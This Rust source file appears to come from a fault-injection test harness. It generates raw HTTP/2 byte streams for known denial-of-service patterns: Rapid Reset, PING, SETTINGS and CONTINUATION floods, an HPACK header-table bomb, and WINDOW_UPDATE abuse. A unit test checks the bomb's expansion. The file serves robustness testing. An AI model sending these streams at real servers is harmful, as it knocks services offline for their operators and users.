//! Connections of HTTP/2 that cost their sender little: each as all the bytes that are sent.

use super::frames::{
    self, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PAYLOAD, PING, PREFACE,
    RST_STREAM, WINDOW, WINDOW_UPDATE,
};
use super::hpack::Encoder;
use crate::entropy::Stream;
use crate::fault::Kind;

pub const KINDS: [Kind; 7] = [
    Kind::RapidReset,
    Kind::PingFlood,
    Kind::SettingsFlood,
    Kind::FieldsFlood,
    Kind::EmptyFlood,
    Kind::FieldBomb,
    Kind::WindowAbuse,
];

/// Far beyond what anybody allows.
const MANY: u32 = 1_600;

pub fn bytes(kind: Kind, chance: &mut Stream) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    frames::put_settings(&mut out, &[]);
    if kind == Kind::RapidReset {
        resets(&mut out);
    } else if kind == Kind::PingFlood {
        (0..MANY).for_each(|_| frames::put(&mut out, PING, 0, 0, &[7; 8]));
    } else if kind == Kind::SettingsFlood {
        (0..MANY / 8).for_each(|_| frames::put_settings(&mut out, &[]));
    } else if kind == Kind::FieldsFlood {
        endless(&mut out, chance.one_in(2));
    } else if kind == Kind::EmptyFlood {
        frames::put(&mut out, HEADERS, END_HEADERS, 1, &head("POST"));
        (0..MANY / 4).for_each(|_| frames::put(&mut out, DATA, 0, 1, &[]));
    } else if kind == Kind::FieldBomb {
        bomb(&mut out);
    } else {
        windows(&mut out, chance.below(4));
    }
    out
}

fn head(method: &str) -> Vec<u8> {
    let mut encoder = Encoder::bare();
    let path = (":path", "/nowhere");
    encoder.encode(&[(":method", method), (":scheme", "http"), path, (":authority", "a")])
}

fn resets(out: &mut Vec<u8>) {
    let head = head("GET");
    for n in 0..MANY {
        let stream = 2 * n + 1;
        frames::put(out, HEADERS, END_HEADERS | END_STREAM, stream, &head);
        frames::put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    }
}

/// A block that goes on and on, with a field without an end in it or with nothing.
fn endless(out: &mut Vec<u8>, empty: bool) {
    let mut block = head("GET");
    // A name, and the beginning of a value of 16 MiB.
    block.extend_from_slice(b"\x00\x01x\x7f\x81\xff\xff\x07");
    frames::put(out, HEADERS, END_STREAM, 1, &block);
    let (count, size) = if empty { (MANY * 4, 0) } else { (40, PAYLOAD) };
    (0..count).for_each(|_| frames::put(out, CONTINUATION, 0, 1, &vec![b'y'; size]));
}

/// A large field that is remembered, and named again and again.
fn bomb(out: &mut Vec<u8>) {
    let mut block = head("GET");
    let value = "z".repeat(3_900);
    block.extend_from_slice(b"\x40\x01x\x7f\xbd\x1d");
    block.extend_from_slice(value.as_bytes());
    block.extend(std::iter::repeat_n(0xbe, 10_000));
    frames::put(out, HEADERS, END_STREAM, 1, &block[..PAYLOAD.min(block.len())]);
    for part in block[PAYLOAD.min(block.len())..].chunks(PAYLOAD) {
        frames::put(out, CONTINUATION, 0, 1, part);
    }
    frames::put(out, CONTINUATION, END_HEADERS, 1, &[]);
}

fn windows(out: &mut Vec<u8>, how: u64) {
    let most = 0x7fff_ffff_u32;
    match how {
        0 => (0..2).for_each(|_| frames::put(out, WINDOW_UPDATE, 0, 0, &most.to_be_bytes())),
        1 => frames::put(out, WINDOW_UPDATE, 0, 0, &[0; 4]),
        2 => frames::put_settings(out, &[(WINDOW, most + 1)]),
        _ => {
            let one = 1_u32.to_be_bytes();
            frames::put(out, HEADERS, END_HEADERS, 1, &head("POST"));
            (0..MANY * 16).for_each(|_| frames::put(out, WINDOW_UPDATE, 0, 1, &one));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::actors::h2::hpack::Decoder;

    #[test]
    fn a_bomb_is_a_fine_block_and_far_larger_than_itself() {
        let mut out = Vec::new();
        bomb(&mut out);
        let (mut block, mut rest) = (Vec::new(), out.as_slice());
        while let Some((_, payload)) = frames::first(rest) {
            block.extend_from_slice(payload);
            rest = &rest[frames::HEAD + payload.len()..];
        }
        let fields = Decoder::default().decode(&block).expect("a fine block");
        assert_eq!(fields.len(), 4 + 1 + 10_000);
        assert_eq!(fields[9_000].1.len(), 3_900);
    }
}
